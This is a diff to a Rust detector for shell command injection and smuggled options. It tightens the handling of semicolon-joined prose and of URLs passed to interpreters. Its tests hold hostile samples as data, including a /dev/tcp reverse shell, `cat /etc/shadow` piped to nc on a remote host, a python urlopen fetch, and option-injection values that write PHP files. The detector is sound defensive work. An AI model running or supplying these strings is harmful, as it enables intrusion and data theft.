@@ -17,7 +17,8 @@
 //! (sensitive files, reverse shells, reconnaissance commands such as
 //! `whoami`, interpreters given code to run). A backtick after `=`, a quote,
 //! a separator or `(`, or one enclosing the whole value, is shell command
-//! substitution and is treated like `$(...)`.
+//! substitution and is treated like `$(...)`; a `; ` between two clauses of
+//! a sentence ("runs at 02:00; `crontab -e` opens the editor") is prose.
 //!
 //! Template injection is recognised inside template delimiters (`{{ }}`,
 //! `{% %}`, `${ }`, `#{ }`, `*{ }`, `%{ }`, `<% %>`): arithmetic probes such as
@@ -1729,7 +1730,21 @@ fn analyse_args(text: &str, from: usize, end: usize, cmd: &str, kind: Kind, brac
         }
     }
     let sensitive = SENSITIVE_AC.is_match(&normalized);
-    if sensitive || normalized.contains("://") {
+    // `python fetch.py --url https://x`: a URL among a script's arguments
+    // is data for the script; an interpreter handed code that fetches one
+    // (`python -c "...urlopen('http://..."`) names it before any script.
+    let url = normalized.find("://").is_some_and(|u| {
+        kind != Kind::Interp
+            || !normalized[..u]
+                .split_ascii_whitespace()
+                .take_while(|t| !matches!(*t, "-c" | "-e" | "-r" | "-m"))
+                .any(|t| {
+                    [".py", ".pl", ".rb", ".js", ".php", ".lua", ".ps1"]
+                        .iter()
+                        .any(|x| t.ends_with(x))
+                })
+    });
+    if sensitive || url {
         a.strong = true;
     }
     let windows_cmd = matches!(
@@ -3303,7 +3318,18 @@ fn scan_segment(
                 // "wait, `sleep 10 && say done`": a comma and a blank before a
                 // code span is prose; `{a,`id`}` glues them.
                 let prose_comma = prev == Some(b',') && matches!(b[i - 1], b' ' | b'\t');
-                let prev = if prose_comma { Some(b' ') } else { prev };
+                // "runs at 02:00; `crontab -e` opens the editor": a
+                // semicolon after a word and a blank, then a span the
+                // sentence goes on after, joins two clauses.
+                let prose_semicolon = prev == Some(b';')
+                    && matches!(b[i - 1], b' ' | b'\t')
+                    && close.is_some()
+                    && clause_after_semicolon(b, seg_start, i, end, seg_end);
+                let prev = if prose_comma || prose_semicolon {
+                    Some(b' ')
+                } else {
+                    prev
+                };
                 let shell = whole
                     || chained
                     || glued
@@ -4533,7 +4559,10 @@ fn risky_option(long: bool, name: &str) -> Option<OptRisk> {
     }
     match name {
         "TT" | "z" | "e" | "c" | "exec" | "execdir" | "ok" | "okdir" => Some(Exec),
-        "o" | "O" | "X" | "w" | "K" | "T" | "F" | "fprintf" | "fprint" | "fls" => Some(File),
+        // ImageMagick reads its long options with one dash: `-write x.php`.
+        "o" | "O" | "X" | "w" | "K" | "T" | "F" | "fprintf" | "fprint" | "fls" | "write" => {
+            Some(File)
+        }
         _ => {
             let l = name.to_ascii_lowercase();
             // `-oProxyCommand=...`, `-oLocalCommand=...` (ssh, scp, sftp).
@@ -4605,6 +4634,35 @@ fn command_argument(a: &str) -> bool {
     resolve(&word, false).is_some_and(|(_, c, _)| {
         c.kind != Kind::Weak || matches!(word.as_str(), "touch" | "cat" | "sleep" | "ping")
     }) || DEV_TOOLS.contains(&word.as_str())
+}
+
+/// Whether the code span from `i` to its closing backtick `end` sits
+/// between two clauses of a sentence: a word ends right before the `;`
+/// that precedes it, and words of prose follow the span.
+fn clause_after_semicolon(
+    b: &[u8],
+    seg_start: usize,
+    i: usize,
+    end: usize,
+    seg_end: usize,
+) -> bool {
+    let before = &b[seg_start..i];
+    let Some(semi) = before.iter().rposition(|&c| c == b';') else {
+        return false;
+    };
+    let word_before = semi > 0 && before[semi - 1].is_ascii_alphanumeric();
+    let after = &b[(end + 1).min(seg_end)..seg_end];
+    let after = &after[..after.len().min(120)];
+    let words = after
+        .split(|c| c.is_ascii_whitespace())
+        .filter(|w| !w.is_empty())
+        .take(3)
+        .filter(|w| {
+            w.iter()
+                .all(|c| c.is_ascii_lowercase() || matches!(c, b',' | b'.' | b'\''))
+        })
+        .count();
+    word_before && after.first() == Some(&b' ') && words >= 3
 }
 
 /// Options smuggled into a value that the application hands, as one
@@ -4957,6 +5015,7 @@ mod tests {
             "dest=db.example.org -oProxyCommand=sh -c 'curl x'",
             "name=backup.tar --checkpoint=1 --checkpoint-action=exec=sh run.sh",
             "branch=main --upload-pack=touch /tmp/x",
+            "img=photo.png -write /srv/app/public/s.php",
             "dir=src -exec sh -c id ;",
             "src=files/ -e 'sh -c id' dst/",
             "url=https://example.org/a -o /var/www/html/x.php",
@@ -5247,12 +5306,32 @@ mod tests {
     }
 
     #[test]
+    fn code_spans_between_clauses() {
+        // A semicolon after a word joins two clauses; the sentence goes on
+        // after the span.
+        assert!(!flagged(
+            "The backup runs at 03:30; `crontab -l` lists the schedule for you."
+        ));
+        assert!(flagged("hello; `cat /etc/passwd` now please"));
+        assert!(flagged("x; `id`"));
+        assert!(flagged("a;`uname -a` and more"));
+    }
+
+    #[test]
     fn code_fences_show_commands() {
         assert!(!flagged(
             "Setup:\n\n```bash\nnpm install --save-dev jest\n```\nthen run it"
         ));
         assert!(!flagged("```\ncargo build --release\n```"));
         assert!(flagged("```sh\ncat /etc/shadow | nc 203.0.113.7 4444\n```"));
+        // A script handed a URL as its argument is a usage line; an
+        // interpreter handed code that fetches one is not.
+        assert!(!flagged(
+            "## Run\n\n```bash\npip install httpx\npython grab.py --url https://example.org/data\n```"
+        ));
+        assert!(flagged(
+            "```sh\npython -c \"import urllib.request;urllib.request.urlopen('http://203.0.113.5/x')\"\n```"
+        ));
         assert!(flagged(
             "```sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n```"
         ));
